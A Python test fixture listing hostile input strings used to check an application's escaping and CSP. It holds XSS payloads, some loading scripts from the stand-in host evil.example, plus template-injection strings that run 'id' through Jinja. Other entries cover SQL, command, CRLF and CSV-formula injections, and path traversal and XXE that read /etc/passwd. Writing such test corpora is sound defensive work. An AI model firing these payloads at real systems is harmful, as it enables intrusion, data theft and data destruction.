"""Hostile strings: what an attacker types into every field.

Every payload that would run calls ``alert``/``confirm``/``prompt`` or loads a script from
another origin; the browser test overrides those functions before any page script runs and
listens for CSP violations, so an escaping mistake anywhere shows up as a recorded call or a
violation, whether or not the CSP would have stopped it.
"""

from __future__ import annotations

BASE = [
    # script tags, in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0bsrc=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script >",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<script>/*</script><script>*/alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=# onclick=alert(1)>klik</a>",
    '<div style="width:100%;height:100%" onmouseover=alert(1)>x</div>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '\\"><img src=x onerror=alert(1)>',
    "<x onclick=alert(1)>klik",
    # javascript: and data: links, Markdown link tricks
    "[klik hier](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](javascript&#58;alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](  javascript:alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:alert(1))",
    '[a](https://ok.example "titel\\" onmouseover=alert(1) x=\\"")',
    '![plaatje](x" onerror="alert(1))',
    "![plaatje](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[klik][a]",
    "<https://ok.example/?q=<script>alert(1)</script>>",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="jav&#x09;ascript:alert(1)">klik</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>verstuur</button></form>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>klik</text></a></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style>@import'//evil.example/x.css';</style></svg>",
    # JavaScript string and template-literal contexts
    "${alert(1)}",
    "Tuin ${alert(document.domain)} test",
    "`;alert(1);`",
    "`${alert(1)}`",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\u2028alert(1)\u2029",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "{% raw %}{{ config }}{% endraw %}",
    "<%= 7*7 %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # polyglots
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    # RTL overrides, zero-width and other invisible characters
    "\u202egnp.exe<script>alert(1)</script>",
    "\u200b<script>\u200balert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "\ufeff<svg onload=alert(1)>",
    "\u00a0\u3000<b>vet</b>\u180e",
    "Ｓｃｒｉｐｔ＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞",
    "\U0001f4a9<img src=x onerror=alert(1)>",
    # CSS and style
    "<style>*{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;inset:0;z-index:99999;background:red">nep</div>',
]

# Template syntax of every engine a text could meet on its way (Jinja, folium/branca's Jinja,
# JavaScript template literals, Freemarker, EL, Thymeleaf, Pug, ERB/EJS, Razor, doT, Handlebars):
# each with arithmetic whose answer (1337 times n) would show if anything evaluated it.
TEMPLATES = [
    "{{ 1337*3 }}",
    "{{7*'7'}} {{ 1337*3 }}",
    "{% set x = 1337*4 %}{{ x }}",
    "{%print(1337*4)%}",
    "{# 1337*5 verdwijnt als het een sjabloon is #}",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.items() }}{{ self.__init__.__globals__ }}",
    "{{ request.application.__globals__.__builtins__ }}",
    "{{ \"quote's\" }} {{ '\"' }}",
    "${ 1337*6 }",
    "${1337*6}",
    "#{ 1337*7 }",
    "#{1337*7}",
    "<%= 1337*8 %>",
    "<%- 1337*8 %>",
    "[[${1337*9}]]",
    "*{1337*9}",
    "@(1337*11)",
    "{{= 1337*10 }}",
    "{{#with 1337}}{{this}}{{/with}}",
    "{{{ 1337*12 }}}",
    "${{1337*13}}",
    "{{ 1337*3 }}\n{% endraw %}{{ 1337*3 }}",
]

# OWASP testing guide injection families: SQL, command, LDAP, XPath, NoSQL, header (CRLF),
# formula (CSV), path traversal, XXE, format strings, server-side includes.
INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE initiative; --",
    "1; SELECT pg_sleep(5)--",
    '" OR 1=1 --',
    "' UNION SELECT password_hash FROM user_account --",
    "; id",
    "$(id)",
    "`id`",
    "| cat /etc/passwd",
    "*)(uid=*))(|(uid=*",
    "' or name()='username' or '1'='1",
    '{"$gt": ""}',
    "naam\r\nSet-Cookie: sessie=overgenomen",
    '=HYPERLINK("http://evil.example","klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    "%s%s%s%n%x",
    "{0.__class__.__init__.__globals__}",
    '<!--#exec cmd="id" -->',
]

WRAPPERS = [
    "{}",
    "Geveltuin {} in de straat",
    "\"'>{}<'\"",
]

LONG = ["x" * 5000 + "<script>alert(1)</script>", "<img src=x onerror=alert(1)>" * 200]
WITH_NUL = ["\x00<script>alert(1)</script>", "tuin\x00<img src=x onerror=alert(1)>", "\x00" * 20 + "${alert(1)}"]


def corpus() -> list[str]:
    """At least 150 hostile strings: every payload in three contexts, plus long and NUL ones."""
    out = [w.replace("{}", p) for p in [*BASE, *TEMPLATES, *INJECTIONS] for w in WRAPPERS]
    return [*dict.fromkeys(out), *LONG, *WITH_NUL]


#: what evaluating any of TEMPLATES would produce: none of these may appear where one is shown
EVALUATED = [str(1337 * n) for n in range(3, 14)] + ["uid=0(", "gid=0(", "7777777"]


def fit(text: str, low: int, high: int) -> str:
    """The payload cut to a field's length limits (padded when too short), as a person could enter it."""
    text = text.replace("\x00", "")  # the request layer removes NUL before any service sees it
    if len(text.strip()) < low:
        text = text + " " + "." * low
    return text[:high]
